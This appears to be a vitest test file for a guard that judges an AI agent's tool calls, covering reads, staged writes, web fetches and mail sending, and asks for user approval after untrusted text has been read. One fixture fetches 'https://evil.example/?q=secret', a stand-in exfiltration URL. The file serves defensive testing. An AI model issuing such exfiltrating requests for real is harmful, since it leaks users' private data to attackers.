import { expect, test } from "vitest";
import type { EgressState } from "./egress.ts";
import { type ChangeRule, type JudgedCall, judgeCall } from "./judge-call.ts";

const clean: EgressState = {
  hasReadUntrusted: false,
  hasSeenPrivate: true,
  asksComposed: false,
  userUrls: [],
  searchUrls: [],
  approvedDestinations: [],
};
const tainted: EgressState = { ...clean, hasReadUntrusted: true };
const read: JudgedCall = { name: "get", kind: "read", tags: ["private"], isRepeatable: false, destination: null };
const fetchPage: JudgedCall = {
  name: "web_fetch",
  kind: "outside",
  tags: ["untrusted", "egress"],
  isRepeatable: true,
  destination: "https://evil.example/?q=secret",
};
const sendMail: JudgedCall = { ...fetchPage, tags: [], isRepeatable: false, destination: "mcp:office/send_mail" };
const check = (call: JudgedCall, state: EgressState, rule: ChangeRule = "asked_each") => judgeCall(call, rule, state);
const allowed = { kind: "allowed" };

test("a read runs freely", () => expect(check(read, tainted)).toEqual(allowed));

test("a write is staged and not judged, but refused before the plan is approved", () => {
  expect(check({ ...read, kind: "write" }, tainted)).toEqual(allowed);
  expect(check({ ...read, kind: "write" }, clean, "after_plan")).toMatchObject({ kind: "refused" });
});

test("a page may be opened before text of strangers was read", () => {
  expect(check(fetchPage, clean)).toEqual(allowed);
  expect(check(fetchPage, clean, "after_plan")).toEqual(allowed);
});

test("after it, a page needs a word, and a yes holds for its site", () =>
  expect(check(fetchPage, tainted, "free")).toMatchObject({
    kind: "needs_user",
    about: "strangers",
    approval: "https://evil.example",
  }));

test("an address that the user wrote needs none", () =>
  expect(check(fetchPage, { ...tainted, userUrls: ["https://evil.example/?q=secret"] })).toEqual(allowed));

test("a site that the user has allowed needs none", () =>
  expect(check(fetchPage, { ...tainted, approvedDestinations: ["https://evil.example"] })).toEqual(allowed));

test("a change outside is free, asked for once, or asked for each time, as the rule says", () => {
  const approved = { ...clean, approvedDestinations: ["mcp:office/send_mail"] };
  expect(check(sendMail, clean, "free")).toEqual(allowed);
  expect(check(sendMail, clean, "asked_once")).toMatchObject({ about: "change", approval: "mcp:office/send_mail" });
  expect(check(sendMail, approved, "asked_once")).toEqual(allowed);
  expect(check(sendMail, approved)).toMatchObject({ about: "change", approval: null });
});

test("what takes something away out there is a change", () =>
  expect(check({ ...fetchPage, tags: ["destructive"] }, clean)).toMatchObject({ about: "change" }));
